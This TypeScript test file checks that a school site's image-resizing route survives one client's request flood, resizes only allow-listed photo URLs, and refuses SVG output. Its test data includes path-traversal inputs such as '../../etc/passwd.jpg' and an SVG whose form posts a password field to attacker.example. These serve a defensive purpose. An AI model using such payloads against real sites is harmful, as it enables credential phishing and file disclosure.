import { Hono, type Context } from 'hono'
import { describe, expect, it } from 'vitest'
import { createApp } from '../../../server/app'
import { CLIENT_SHARE, createResizedPhotos, RESIZES_AT_ONCE } from '../../../server/resized-photos'
import { resizedUrl } from '../../../src/config/resizer-template'

/**
 * Photo copies on the site's own origin, under a hostile client: one client's flood leaves the resizer's turns to
 * everyone else too; `/img/` resizes only the contract's photos (a backend file with an image's name, or a raster
 * image on a media origin), nothing after them; and only a raster image the resizer makes is served, never its SVG
 * (which would run on the site's origin with the site's policy). The resizer here is a fake that takes about a
 * second a copy, as a real one decoding a phone photo does.
 */
const BACKEND = 'https://content.example.org'
const MEDIA = 'https://media.example-school.org'
const SITE_TEMPLATE = '/img/{width}/{url}'
const RESIZER = 'http://resizer.internal/resize?src={url}&w={width}'
const WIDTH = 320
/** What the site writes for a backend photo (api/image-url.ts's fileUrl). */
const backendPhoto = (path: string) => `${BACKEND}/api/image?url=${encodeURIComponent(path)}`
const PARENTS_PHOTO = backendPhoto('gallery/sports-day-1.jpg')
/** The review's flood: 260 requests at once, each a photo of its own. */
const FLOOD = 260
const RESIZE_MS = 1_000
/** A visitor's photo is made within two turns of the resizer: the one under way when it asks, and its own. */
const QUICKLY_MS = 2 * RESIZE_MS + 500

/** Who asks (the client-address function the server is given): here the address nginx would forward. */
const CLIENT_HEADER = 'X-Forwarded-For'
const FLOODER = '203.0.113.7'
const PARENT = '198.51.100.20'

interface FakeResizer {
  asked: string[]
  /** How long a copy takes, from now on. */
  delayMs: number
  fetch: typeof fetch
}

/** A resizer that answers `answer()` after `delayMs`, noting what it is asked. */
function fakeResizer(answer: () => Response = jpeg, delayMs = RESIZE_MS): FakeResizer {
  const fake: FakeResizer = {
    asked: [],
    delayMs,
    fetch: (async (input: RequestInfo | URL) => {
      fake.asked.push(String(input))
      await new Promise((resolve) => setTimeout(resolve, fake.delayMs))
      return answer()
    }) as typeof fetch,
  }
  return fake
}

function jpeg() {
  return new Response(new Uint8Array(1024).fill(0xff), { headers: { 'Content-Type': 'image/jpeg' } })
}

function photoSite(resizer: FakeResizer) {
  const photos = createResizedPhotos({
    siteTemplate: SITE_TEMPLATE,
    resizerTemplate: RESIZER,
    photoOrigins: [BACKEND],
    mediaOrigins: [MEDIA],
    clientOf: (c: Context) => c.req.header(CLIENT_HEADER) ?? '',
    fetch: resizer.fetch,
  })
  const app = createApp({
    schoolCode: 'DEMO01',
    backend: undefined,
    securityHeaders: [['Content-Security-Policy', "default-src 'self'"]],
    log: () => undefined,
    photos,
    files: new Hono().get('*', (c) => c.text('a file of the build', 404)),
  })
  const ask = (source: string, client: string) =>
    app.request(`http://school.test${resizedUrl(SITE_TEMPLATE, source, WIDTH)}`, {
      headers: { [CLIENT_HEADER]: client },
    })
  return { ask }
}

/** A request's status and how long its answer took. */
async function timed(
  answer: Response | Promise<Response>,
): Promise<{ status: number; ms: number; retryAfter: string | null }> {
  const started = performance.now()
  const response = await answer
  await response.arrayBuffer()
  return {
    status: response.status,
    ms: Math.round(performance.now() - started),
    retryAfter: response.headers.get('Retry-After'),
  }
}

/** Lets the flood's requests reach the server's line before the parent asks. */
const settle = () => new Promise((resolve) => setTimeout(resolve, 50))

describe('one client’s flood leaves the site’s photos to everyone else', () => {
  it('a flood of one photo with made-up query text never reaches the resizer; a parent’s photo comes quickly', async () => {
    const resizer = fakeResizer()
    const { ask } = photoSite(resizer)
    const flood = Array.from({ length: FLOOD }, (_, junk) =>
      timed(ask(`${BACKEND}/api/image?url=gallery%2Fsports-day-1.jpg&junk=${junk}`, FLOODER)),
    )
    await settle()
    const parent = await timed(ask(PARENTS_PHOTO, PARENT))
    console.log(`junk flood of ${FLOOD}: the parent's photo ${parent.status} in ${parent.ms} ms`)
    expect(parent.status).toBe(200)
    expect(parent.ms).toBeLessThan(QUICKLY_MS)
    const flooded = await Promise.all(flood)
    expect(flooded.every(({ status }) => status === 400)).toBe(true)
    expect(resizer.asked).toEqual([resizedUrl(RESIZER, PARENTS_PHOTO, WIDTH)])
  })

  it('a flood of distinct real photos from one client: its share in line, the rest 503 at once, a parent in turn', async () => {
    const resizer = fakeResizer()
    const { ask } = photoSite(resizer)
    const flood = Array.from({ length: FLOOD }, (_, n) => timed(ask(backendPhoto(`flood/photo-${n}.jpg`), FLOODER)))
    await settle()
    const parent = await timed(ask(PARENTS_PHOTO, PARENT))
    console.log(`photo flood of ${FLOOD}: the parent's photo ${parent.status} in ${parent.ms} ms`)
    expect(parent.status).toBe(200)
    expect(parent.ms).toBeLessThan(QUICKLY_MS)

    // The rest of the flooder's share, made fast, so that the test ends soon.
    resizer.delayMs = 1
    const flooded = await Promise.all(flood)
    const refused = flooded.filter(({ status }) => status === 503)
    console.log(
      `the flooder: ${flooded.length - refused.length} made, ${refused.length} refused, ` +
        `the slowest refusal in ${Math.max(...refused.map(({ ms }) => ms))} ms`,
    )
    expect(flooded.length - refused.length).toBe(CLIENT_SHARE)
    expect(refused.every(({ ms, retryAfter }) => ms < RESIZE_MS && retryAfter !== null)).toBe(true)
  })

  it('counts an IPv6 client by its /64, and an IPv4 client the same however its address is written', async () => {
    const resizer = fakeResizer(jpeg, 100)
    const { ask } = photoSite(resizer)
    const share = Array.from({ length: CLIENT_SHARE }, (_, n) =>
      ask(backendPhoto(`share/photo-${n}.jpg`), '2001:db8:1:2::a'),
    )
    await settle()
    const sameNetwork = await timed(ask(backendPhoto('next/a.jpg'), '2001:db8:1:2:ffff:ffff:ffff:fffe'))
    expect(sameNetwork).toMatchObject({ status: 503, retryAfter: '5' })
    expect((await timed(ask(backendPhoto('next/b.jpg'), '2001:db8:1:3::a'))).status).toBe(200)
    await Promise.all(share)

    const mapped = Array.from({ length: CLIENT_SHARE }, (_, n) =>
      ask(backendPhoto(`mapped/photo-${n}.jpg`), '::ffff:192.0.2.1'),
    )
    await settle()
    expect((await timed(ask(backendPhoto('next/c.jpg'), '192.0.2.1'))).status).toBe(503)
    await Promise.all(mapped)
  })

  it('still makes a few copies at once for one client, up to the resizer’s turns', async () => {
    const resizer = fakeResizer(jpeg, 50)
    const { ask } = photoSite(resizer)
    const page = await Promise.all(
      Array.from({ length: RESIZES_AT_ONCE * 3 }, (_, n) => ask(backendPhoto(`page/photo-${n}.jpg`), PARENT)),
    )
    expect(page.every((answer) => answer.status === 200)).toBe(true)
  })
})

describe('/img/ resizes only the contract’s photos', () => {
  it.each([
    ['a backend page that is not a file', `${BACKEND}/admin/users/delete?all=1`],
    ['the TC request', `${BACKEND}/api/tc/DEMO01`],
    ['a list call', `${BACKEND}/api/news/DEMO01`],
    ['a photo with made-up query text', `${BACKEND}/api/image?url=gallery%2Fsports-day-1.jpg&junk=1`],
    ['a photo with query text first', `${BACKEND}/api/image?x=1&url=gallery%2Fsports-day-1.jpg`],
    ['a photo written another way', `${BACKEND}/api/image?url=gallery/sports-day-1.jpg`],
    ['a file that is no image', backendPhoto('circulars/holiday-list-2026.pdf')],
    ['a file path that climbs', backendPhoto('../../etc/passwd.jpg')],
    ['a file by path with query text', `${BACKEND}/api/image/gallery/a.jpg?x=1`],
    ['a file by path that climbs', `${BACKEND}/api/image/%2e%2e/%2e%2e/admin.jpg`],
    ['a file by path with an encoded slash', `${BACKEND}/api/image/gallery%2F..%2Fa.jpg`],
    ['a media file with query text', `${MEDIA}/photos/a.jpg?x=1`],
    ['a media address that is no image', `${MEDIA}/admin/users`],
    ['a media drawing (SVG)', `${MEDIA}/photos/a.svg`],
  ])('refuses %s with 400, before any resizer call', async (_, source) => {
    const resizer = fakeResizer(jpeg, 1)
    const { ask } = photoSite(resizer)
    const answer = await ask(source, PARENT)
    expect(answer.status).toBe(400)
    expect(answer.headers.get('Cache-Control')).toBe('no-store')
    expect(resizer.asked).toHaveLength(0)
  })

  it.each([
    ['a backend photo by the helper’s address', backendPhoto('gallery/sports-day-1.jpg')],
    ['a backend photo with a capital extension', backendPhoto('Gallery/IMG_0001.JPG')],
    ['a backend drawing, which the resizer turns into a photo', backendPhoto('birthdays/ira-khan.svg')],
    ['a backend photo by path', `${BACKEND}/api/image/DEMO01/public/Images/a.png`],
    ['a media photo', `${MEDIA}/photos/2026/sports%20day.webp`],
  ])('resizes %s', async (_, source) => {
    const resizer = fakeResizer(jpeg, 1)
    const { ask } = photoSite(resizer)
    expect((await ask(source, PARENT)).status).toBe(200)
    expect(resizer.asked).toEqual([resizedUrl(RESIZER, source, WIDTH)])
  })
})

describe('only a raster image the resizer makes is served', () => {
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="300" height="100">' +
    '<form xmlns="http://www.w3.org/1999/xhtml" action="https://attacker.example/"><input name="password"/></form>' +
    '</foreignObject></svg>'

  it.each([
    ['an SVG', 'image/svg+xml'],
    ['an SVG with parameters', 'Image/SVG+XML; charset=utf-8'],
    ['an image type it does not know', 'image/x-unknown'],
    ['no type', ''],
  ])('refuses %s with 502, kept nowhere', async (_, type) => {
    const resizer = fakeResizer(() => new Response(svg, { headers: type ? { 'Content-Type': type } : {} }), 1)
    const { ask } = photoSite(resizer)
    const answer = await ask(PARENTS_PHOTO, PARENT)
    expect(answer.status).toBe(502)
    expect(answer.headers.get('Cache-Control')).toBe('no-store')
    expect(answer.headers.get('Content-Type')).toMatch(/^text\/plain/)
    expect(await answer.text()).not.toContain('<form')
    await ask(PARENTS_PHOTO, PARENT)
    expect(resizer.asked).toHaveLength(2)
  })

  it.each(['image/jpeg', 'image/png', 'image/webp', 'image/avif', 'image/gif'])('serves %s', async (type) => {
    const resizer = fakeResizer(() => new Response(new Uint8Array(64), { headers: { 'Content-Type': type } }), 1)
    const { ask } = photoSite(resizer)
    const answer = await ask(PARENTS_PHOTO, PARENT)
    expect(answer.status).toBe(200)
    expect(answer.headers.get('Content-Type')).toBe(type)
  })
})
